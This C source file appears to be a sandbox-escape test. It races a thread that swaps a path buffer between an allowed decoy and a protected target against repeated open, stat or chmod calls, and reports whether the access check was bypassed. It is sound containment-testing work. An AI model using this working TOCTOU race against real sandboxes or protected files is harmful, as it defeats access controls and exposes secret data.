/* TOCTOU on the path buffer: a thread flips the buffer between an allowed
 * path (DECOY) and the protected one (TARGET) while the main thread calls
 * in a loop, for SECONDS (default 1.5).
 *   attack_toctou read  TARGET DECOY   open+read: escape = secret content
 *   attack_toctou stat  TARGET DECOY   stat: escape = a regular file stated
 *                                       (DECOY must be a directory)
 *   attack_toctou chmod TARGET DECOY   chmod 0640: escape = TARGET's mode
 *                                       changed (TARGET read-only) */
#include "attack.h"
#include <pthread.h>

static char buf[4096];
static const char *pa, *pb;
static volatile int stop;

static void *flipper(void *arg)
{
	size_t la = strlen(pa) + 1, lb = strlen(pb) + 1;

	(void)arg;
	while (!stop) {
		memcpy(buf, pa, la);
		__asm__ volatile("" ::: "memory");	/* keep both stores */
		for (volatile int i = 0; i < 50; i++)
			;
		memcpy(buf, pb, lb);
		__asm__ volatile("" ::: "memory");
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t th;
	double end, secs = argc > 4 ? atof(argv[4]) : 1.5;
	const char *mode;
	struct stat st0, st;
	long tries = 0, ok = 0;
	int last = 0;

	if (argc < 4)
		return 2;
	mode = argv[1];
	pa = argv[3];	/* decoy */
	pb = argv[2];	/* target */
	if (!strcmp(mode, "chmod") && stat(pb, &st0))
		blocked("cannot stat target: %s", ename(errno));
	snprintf(buf, sizeof(buf), "%s", pa);
	pthread_create(&th, NULL, flipper, NULL);
	end = now_s() + secs;
	while (now_s() < end) {
		tries++;
		if (!strcmp(mode, "read")) {
			int fd = open(buf, O_RDONLY);
			if (fd < 0)
				last = errno;
			else if (fd_is_secret(fd)) {
				stop = 1;
				escaped("read the protected file after %ld tries", tries);
			}
		} else if (!strcmp(mode, "stat")) {
			if (stat(buf, &st) < 0)
				last = errno;
			else if (S_ISREG(st.st_mode)) {
				stop = 1;
				escaped("stat of the protected file after %ld tries", tries);
			} else
				ok++;
		} else if (!strcmp(mode, "chmod")) {
			if (chmod(buf, 0640) < 0)
				last = errno;
			if (stat(pb, &st) == 0 && (st.st_mode & 07777) != (st0.st_mode & 07777)) {
				stop = 1;
				chmod(pb, st0.st_mode & 07777);
				escaped("chmod of the read-only file after %ld tries", tries);
			}
		} else {
			return 2;
		}
	}
	stop = 1;
	pthread_join(th, NULL);
	blocked("%ld tries, last error %s", tries, ename(last));
}
